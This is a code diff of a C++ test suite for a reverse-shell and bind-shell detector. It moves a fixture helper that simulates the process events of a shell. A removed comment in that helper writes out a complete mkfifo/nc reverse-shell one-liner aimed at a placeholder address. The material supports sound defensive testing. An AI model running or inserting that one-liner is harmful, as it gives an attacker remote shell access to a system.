@@ -36,18 +36,6 @@ struct Fixture {
         for (const auto& alert : alerts) level = std::max(level, alert.level);
         return level;
     }
-
-    // rm; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 192.0.2.1 4444 >/tmp/f, up to the connect.
-    void plain_shell() {
-        history.exec(100, 1, {"bash", "-c", "..."});
-        history.exec(101, 100, {"mkfifo", "/tmp/f"});
-        history.make_fifo(101, 100, "/tmp/f");
-        history.exec(102, 100, {"cat", "/tmp/f"});
-        history.exec(103, 100, {"sh", "-i"});
-        history.open(104, 100, "bash", Mode::write);
-        history.open(102, 100, "cat", Mode::read);
-        history.exec(104, 100, {"nc", "192.0.2.1", "4444"});
-    }
 };
 
 }  // namespace
@@ -55,7 +43,7 @@ struct Fixture {
 BOOST_AUTO_TEST_SUITE(detector_tests)
 
 BOOST_FIXTURE_TEST_CASE(the_plain_reverse_shell_is_critical_the_moment_it_connects, Fixture) {
-    plain_shell();
+    history.plain_shell();
     run();
     BOOST_TEST((highest() < Level::medium));
     history.connect(104, 100, "nc");
@@ -88,7 +76,7 @@ BOOST_FIXTURE_TEST_CASE(the_order_in_which_the_stages_start_does_not_matter, Fix
 }
 
 BOOST_FIXTURE_TEST_CASE(a_bind_shell_is_told_with_the_address_of_who_came, Fixture) {
-    plain_shell();
+    history.plain_shell();
     history.bind(104, 100, "nc");
     history.accept(104, 100, "nc", "198.51.100.7", 50123);
     run();
@@ -98,7 +86,7 @@ BOOST_FIXTURE_TEST_CASE(a_bind_shell_is_told_with_the_address_of_who_came, Fixtu
 }
 
 BOOST_FIXTURE_TEST_CASE(an_incident_tells_each_level_once_under_one_name, Fixture) {
-    plain_shell();
+    history.plain_shell();
     history.connect(104, 100, "nc");
     for (int pid = 200; pid < 220; ++pid) history.exec(pid, 103, {"id"});
     run();
@@ -162,7 +150,7 @@ BOOST_FIXTURE_TEST_CASE(what_the_shell_was_made_to_start_is_not_its_network, Fix
 // Where connects are not audited, or a tool sends without one, its name is all there is: worth a
 // look, not an alarm.
 BOOST_FIXTURE_TEST_CASE(a_network_tool_by_name_alone_makes_it_medium_after_a_while, Fixture) {
-    plain_shell();
+    history.plain_shell();
     run();
     BOOST_TEST((highest() < Level::medium));
     history.wait(event::Duration{2500});
@@ -176,7 +164,7 @@ BOOST_FIXTURE_TEST_CASE(a_network_tool_by_name_alone_makes_it_medium_after_a_whi
 
 BOOST_FIXTURE_TEST_CASE(the_same_pids_on_two_hosts_are_two_stories, Fixture) {
     const auto other = nodes.intern("web1").value();
-    plain_shell();
+    history.plain_shell();
     history.node = other;
     history.connect(104, 100, "nc");
     finish();
@@ -189,11 +177,11 @@ BOOST_FIXTURE_TEST_CASE(the_same_pids_on_two_hosts_are_two_stories, Fixture) {
 }
 
 BOOST_FIXTURE_TEST_CASE(a_replay_gives_the_same_names_and_evidence, Fixture) {
-    plain_shell();
+    history.plain_shell();
     history.connect(104, 100, "nc");
     run();
     Fixture again;
-    again.plain_shell();
+    again.history.plain_shell();
     again.history.connect(104, 100, "nc");
     again.run();
     BOOST_REQUIRE(alerts.size() == again.alerts.size());
@@ -207,7 +195,7 @@ BOOST_FIXTURE_TEST_CASE(a_replay_gives_the_same_names_and_evidence, Fixture) {
 }
 
 BOOST_FIXTURE_TEST_CASE(a_removed_fifo_is_told_as_unlinked, Fixture) {
-    plain_shell();
+    history.plain_shell();
     history.remove(105, 100);
     history.connect(104, 100, "nc");
     run();
@@ -265,7 +253,7 @@ BOOST_FIXTURE_TEST_CASE(an_unknown_parent_is_asked_about_once, Fixture) {
 
 BOOST_FIXTURE_TEST_CASE(other_hosts_are_never_asked_about, Fixture) {
     history.node = nodes.intern("web1").value();
-    plain_shell();
+    history.plain_shell();
     history.exec(300, 299, {"id"});
     history.connect(104, 100, "nc");
     run();
